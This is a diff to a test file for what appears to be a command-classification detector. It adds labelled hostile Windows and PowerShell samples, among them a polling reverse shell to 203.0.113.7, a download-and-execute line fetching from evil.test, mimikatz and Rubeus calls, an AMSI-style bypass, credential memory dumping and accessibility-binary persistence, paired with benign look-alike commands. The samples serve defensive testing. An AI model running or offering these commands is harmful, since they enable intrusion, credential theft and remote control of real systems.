@@ -107,6 +107,10 @@ const UNIX: Cases = [
 ];
 
 const WINDOWS: Cases = [
+  ['persistence.accessibility', 'cmd /c mklink C:\\Windows\\System32\\osk.exe C:\\a.exe'],
+  ['credential.process_memory', 'C:\\Windows\\System32\\WerFaultSecure.exe /h /pid 700 /file a'],
+  ['shell.proxy_execution', 'sftp -o ProxyCommand="powershell C:\\a.ps1" box7'],
+  ['evasion.attributes', 'cmd /c type C:\\a.exe > C:\\notes.txt:b.exe'],
   [
     'shell.proxy_execution',
     'C:\\Windows\\System32\\regsvr32.exe /s \\\\192.0.2.1\\a\\b.dll',
@@ -170,6 +174,24 @@ const WINDOWS: Cases = [
 ];
 
 const POWERSHELL: Cases = [
+  ['recon.attack_tool', '.\\Rubeus.exe triage', '& .\\mimikatz.exe'],
+  [
+    'evasion.defenses',
+    "$t = [Ref].Assembly.GetType('A' + 'B'); $t.GetField('c', 'NonPublic,Static').SetValue($null, $true)",
+  ],
+  [
+    'privilege.remote_execution',
+    '$to = \'\\\\box7\\C$\'; Copy-Item .\\run.exe -Destination "$to\\Users\\Public"',
+    '$c = New-Object PSCredential($u, $p); $s = New-PSSession -ComputerName box7 -Credential $c; Invoke-Command -Session $s { C:\\run.exe }',
+  ],
+  [
+    'shell.reverse_shell',
+    'while ($true) { $a = irm http://203.0.113.7/next -Headers @{ k = 1 }; $b = iex $a; irm http://203.0.113.7/back -Method Post -Body $b; sleep 2 }',
+  ],
+  [
+    'shell.download_execute',
+    "$r = [Net.WebRequest]::Create('http://evil.test/a'); $q = New-Object IO.StreamReader($r.GetResponse().GetResponseStream()); iex $q.ReadToEnd()",
+  ],
   [
     'shell.obfuscated',
     `& ("{1}{0}" -f 'ex','i') $x`,
@@ -292,6 +314,9 @@ const ORDINARY_WINDOWS = [
 ];
 
 const ORDINARY_POWERSHELL = [
+  'while ($true) { Invoke-RestMethod http://localhost:3000/health; sleep 5 }',
+  '[Ref].Assembly.GetName()',
+  'Invoke-Command -ComputerName box7 -ScriptBlock { Get-Service w3svc }',
   'Get-ChildItem -Recurse -Filter *.cs | Select-String TODO',
   'Set-Content -Path .\\a.txt -Value "x"; Get-Content a.txt',
   'sc a.txt "hello"',
